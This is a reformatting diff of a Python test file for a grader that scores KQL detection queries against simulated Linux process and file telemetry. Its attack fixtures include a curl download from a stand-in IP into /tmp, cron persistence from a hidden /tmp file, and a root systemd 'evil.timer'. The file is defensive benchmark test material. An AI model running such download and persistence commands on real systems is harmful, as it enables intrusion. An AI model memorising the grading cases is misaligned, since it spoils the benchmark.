@@ -21,41 +21,70 @@ from ctirealm.telemetry.store import Store, build_store
 
 DPE = "DeviceProcessEvents"
 ATTACK = {
-    "linux_101": {DPE: [process_event(101000000001, "crontab /tmp/.c zz-sim", AccountName="www-data"),
-                        process_event(101000000002, "sh -c 'echo job > /tmp/.c' zz-sim",
-                                      AccountName="www-data")]},
-    "linux_102": {DPE: [process_event(102000000001, "curl -o /tmp/x http://203.0.113.9 zz-sim",
-                                      AccountName="www-data")]},
-    "linux_103": {DPE: [process_event(103000000001, "systemctl enable evil.timer zz-sim",
-                                      AccountName="root")],
-                  "DeviceFileEvents": [{"Timestamp": "2026-03-05T10:00:01Z", "ReportId": 103000000002,
-                                        "FileName": "evil.timer", "DeviceName": "web01.corp.example",
-                                        "FolderPath": "/etc/systemd/system/evil.timer"}]},
+    "linux_101": {
+        DPE: [
+            process_event(101000000001, "crontab /tmp/.c zz-sim", AccountName="www-data"),
+            process_event(101000000002, "sh -c 'echo job > /tmp/.c' zz-sim", AccountName="www-data"),
+        ]
+    },
+    "linux_102": {
+        DPE: [process_event(102000000001, "curl -o /tmp/x http://203.0.113.9 zz-sim", AccountName="www-data")]
+    },
+    "linux_103": {
+        DPE: [process_event(103000000001, "systemctl enable evil.timer zz-sim", AccountName="root")],
+        "DeviceFileEvents": [
+            {
+                "Timestamp": "2026-03-05T10:00:01Z",
+                "ReportId": 103000000002,
+                "FileName": "evil.timer",
+                "DeviceName": "web01.corp.example",
+                "FolderPath": "/etc/systemd/system/evil.timer",
+            }
+        ],
+    },
 }
 BENIGN = {
-    "linux_101": {DPE: [process_event(104000000001, "crontab -l", AccountName="alice"),
-                        process_event(104000000002, "crontab -e", AccountName="root")]},
-    "lookalikes": {DPE: [
-        process_event(105000000001, "sleep 60", AccountName="root"),
-        # the same values but the id: no row of these values identifies one event
-        process_event(105000000002, "sleep 60", AccountName="root"),
-        process_event(105000000003, "ls /var/log", AccountName="bob"),
-        process_event(105000000004, "uptime", AccountName="bob"),
-    ]},
+    "linux_101": {
+        DPE: [
+            process_event(104000000001, "crontab -l", AccountName="alice"),
+            process_event(104000000002, "crontab -e", AccountName="root"),
+        ]
+    },
+    "lookalikes": {
+        DPE: [
+            process_event(105000000001, "sleep 60", AccountName="root"),
+            # the same values but the id: no row of these values identifies one event
+            process_event(105000000002, "sleep 60", AccountName="root"),
+            process_event(105000000003, "ls /var/log", AccountName="bob"),
+            process_event(105000000004, "uptime", AccountName="bob"),
+        ]
+    },
 }
 
 
 def case(case_id: str, techniques: tuple[str, ...]) -> Case:
     events = {t: tuple(str(r["ReportId"]) for r in rows) for t, rows in ATTACK[case_id].items()}
-    negatives = {t: tuple(str(r["ReportId"]) for r in rows)
-                 for t, rows in BENIGN.get(case_id, {}).items()}
-    return Case(case_id, "linux", case_id, "Detect the thing this case is about, precisely.",
-                (), ("realm-50",), "medium",
-                GroundTruth(techniques, tuple(events), {}, events, negatives))
+    negatives = {t: tuple(str(r["ReportId"]) for r in rows) for t, rows in BENIGN.get(case_id, {}).items()}
+    return Case(
+        case_id,
+        "linux",
+        case_id,
+        "Detect the thing this case is about, precisely.",
+        (),
+        ("realm-50",),
+        "medium",
+        GroundTruth(techniques, tuple(events), {}, events, negatives),
+    )
 
 
-CASES = {c.id: c for c in (case("linux_101", ("T1053.003",)), case("linux_102", ("T1105",)),
-                           case("linux_103", ("T1053.006", "T1543.002")))}
+CASES = {
+    c.id: c
+    for c in (
+        case("linux_101", ("T1053.003",)),
+        case("linux_102", ("T1105",)),
+        case("linux_103", ("T1053.006", "T1543.002")),
+    )
+}
 
 
 @pytest.fixture(scope="module")
@@ -92,13 +121,17 @@ def test_technique_parents() -> None:
 def test_neutral_events_are_the_attacks_of_cases_sharing_a_technique(store: Store) -> None:
     # linux_101 (T1053.003) and linux_103 (T1053.006) share T1053; linux_102 shares nothing.
     assert neutral_events(CASES["linux_101"], CASES) == {
-        (DPE, "103000000001"), ("DeviceFileEvents", "103000000002")}
+        (DPE, "103000000001"),
+        ("DeviceFileEvents", "103000000002"),
+    }
     assert neutral_events(CASES["linux_102"], list(CASES.values())) == set()
     # The store's labels for a case's id count too (cases played from scenarios list no ids).
     bare = case("linux_103", ("T1053.006",))
     bare = Case(**{**bare.__dict__, "ground_truth": GroundTruth(("T1053.006",), (DPE,), {}, {}, {})})
     assert neutral_events(CASES["linux_101"], {"linux_103": bare}, store.labels) == {
-        (DPE, "103000000001"), ("DeviceFileEvents", "103000000002")}
+        (DPE, "103000000001"),
+        ("DeviceFileEvents", "103000000002"),
+    }
 
 
 def test_a_marker_query_over_other_cases_attack_events_is_penalised(store: Store, engine) -> None:
@@ -110,9 +143,11 @@ def test_a_marker_query_over_other_cases_attack_events_is_penalised(store: Store
     assert result.precision == pytest.approx(2 / 3)
     assert result.false_positive_examples[0]["id"] == "102000000001"
     assert result.false_positive_examples[0]["kind"] == "attack"
-    assert result.attack_groups == {"linux_101": [f"{DPE}:101000000001", f"{DPE}:101000000002"],
-                                    "linux_102": [f"{DPE}:102000000001"],
-                                    "linux_103": [f"{DPE}:103000000001"]}
+    assert result.attack_groups == {
+        "linux_101": [f"{DPE}:101000000001", f"{DPE}:101000000002"],
+        "linux_102": [f"{DPE}:102000000001"],
+        "linux_103": [f"{DPE}:103000000001"],
+    }
 
 
 def test_technique_sharing_neighbours_are_neutral(store: Store, engine) -> None:
@@ -125,12 +160,19 @@ def test_technique_sharing_neighbours_are_neutral(store: Store, engine) -> None:
     assert (alone.tp, alone.fp, alone.other_attacks) == (1, 3, 0)
 
 
-@pytest.mark.parametrize("head", [DPE, f"['{DPE}']", f'["{DPE}"]', f"union {DPE}",
-                                  "union withsource=T Device*Process*",
-                                  f"let src = {DPE} | where 1 == 1;\nsrc"])
+@pytest.mark.parametrize(
+    "head",
+    [
+        DPE,
+        f"['{DPE}']",
+        f'["{DPE}"]',
+        f"union {DPE}",
+        "union withsource=T Device*Process*",
+        f"let src = {DPE} | where 1 == 1;\nsrc",
+    ],
+)
 def test_a_quoted_query_scores_like_the_bare_one(store: Store, engine, head: str) -> None:
-    kql = f"{head}\n| where AccountName == 'www-data' and ProcessCommandLine !has 'curl'" \
-          "\n| project ReportId"
+    kql = f"{head}\n| where AccountName == 'www-data' and ProcessCommandLine !has 'curl'\n| project ReportId"
     result = judge(store, engine, kql)
     assert (result.tp, result.fp, result.f1) == (2, 0, 1.0), result.summary()
 
@@ -146,17 +188,26 @@ def test_an_idless_projection_of_one_common_column_scores_nothing(store: Store, 
 
 
 def test_idless_rows_count_when_their_values_identify_one_event(store: Store, engine) -> None:
-    kql = (f"{DPE} | where AccountName == 'www-data' and ProcessCommandLine !has 'curl' "
-           "| project timestamp, AccountName, processcommandline, DeviceName")
+    kql = (
+        f"{DPE} | where AccountName == 'www-data' and ProcessCommandLine !has 'curl' "
+        "| project timestamp, AccountName, processcommandline, DeviceName"
+    )
     result = judge(store, engine, kql)
     assert (result.tp, result.fp, result.unattributed) == (2, 0, 0)
     # Values that two events share identify neither: each such row is unattributed.
-    twins = judge(store, engine, f"{DPE} | where ProcessCommandLine == 'sleep 60' "
-                                 "| project Timestamp, AccountName, ProcessCommandLine")
+    twins = judge(
+        store,
+        engine,
+        f"{DPE} | where ProcessCommandLine == 'sleep 60' "
+        "| project Timestamp, AccountName, ProcessCommandLine",
+    )
     assert (twins.tp, twins.fp, twins.unattributed) == (0, 2, 2)
     # Rows identifying benign events by value are false positives, not unattributed rows.
-    benign = judge(store, engine, f"{DPE} | where AccountName == 'bob' "
-                                  "| project Timestamp, AccountName, ProcessCommandLine")
+    benign = judge(
+        store,
+        engine,
+        f"{DPE} | where AccountName == 'bob' | project Timestamp, AccountName, ProcessCommandLine",
+    )
     assert (benign.fp, benign.unattributed, benign.hard_negatives_matched) == (2, 0, 2)
     # A computed column beside them: the row is no event's values.
     noted = judge(store, engine, kql + " | extend Note = 'cron'")
@@ -164,8 +215,10 @@ def test_idless_rows_count_when_their_values_identify_one_event(store: Store, en
 
 
 def test_an_aggregate_never_counts(store: Store, engine) -> None:
-    kql = (f"{DPE} | where ProcessCommandLine has 'zz-sim' "
-           "| summarize n = count() by DeviceName, AccountName, FileName")
+    kql = (
+        f"{DPE} | where ProcessCommandLine has 'zz-sim' "
+        "| summarize n = count() by DeviceName, AccountName, FileName"
+    )
     result = judge(store, engine, kql)
     assert (result.tp, result.fp, result.unattributed) == (0, 4, 4) and result.rows == 4
     # A computed value in an id-named column names nothing either.
@@ -193,8 +246,7 @@ def test_expected_events_outside_the_tables_read(store: Store, engine) -> None:
 
 
 def test_without_an_expected_set_attack_events_are_what_is_sought(store: Store, engine) -> None:
-    result = evaluate(f"{DPE} | where FileName == 'crontab' | project ReportId", engine,
-                      store.labels)
+    result = evaluate(f"{DPE} | where FileName == 'crontab' | project ReportId", engine, store.labels)
     assert result.expected is None
     assert (result.tp, result.fp, result.hard_negatives_matched) == (1, 2, 2)
 
